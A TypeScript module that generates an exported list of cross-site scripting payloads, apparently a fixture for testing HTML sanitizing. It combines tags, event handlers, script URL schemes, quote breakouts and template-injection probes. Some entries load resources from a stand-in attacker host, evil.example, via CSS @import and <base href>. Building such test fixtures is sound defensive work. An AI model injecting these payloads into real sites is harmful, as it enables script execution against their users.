const tags = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'video', 'details', 'form', 'math']
const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle']
const schemes = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<b>x</b>', 'vbscript:msgbox(1)']
const breakouts = [
  '"',
  "'",
  '`',
  '</script>',
  '</title>',
  '-->',
  ']]>',
  '\u2028',
  '&quot;',
  '{{7*7}}',
  '${7*7}',
  '<%= 7 %>',
]

/** Two hundred texts that would do something if a page took one of them for markup or script. */
export const payloads: readonly string[] = [
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=alert(1) src=x>`)),
  ...tags.flatMap((tag) => schemes.map((scheme) => `<${tag} src="${scheme}" href="${scheme}">`)),
  ...breakouts.flatMap((quote) => handlers.map((handler) => `${quote}><b ${handler}=alert(document.domain)>`)),
  ...schemes.flatMap((scheme) => handlers.map((handler) => `[see](${scheme}) ![x](${scheme}) ${handler}`)),
  ...breakouts.flatMap((quote) => [
    `${quote}<style>@import'//evil.example'</style>`,
    `${quote}<base href=//evil.example>`,
  ]),
  ...tags.map((tag) => `<${tag}/**/xmlns="http://www.w3.org/2000/svg"><![CDATA[<]]>alert(1)</${tag}>`),
].slice(0, 200)
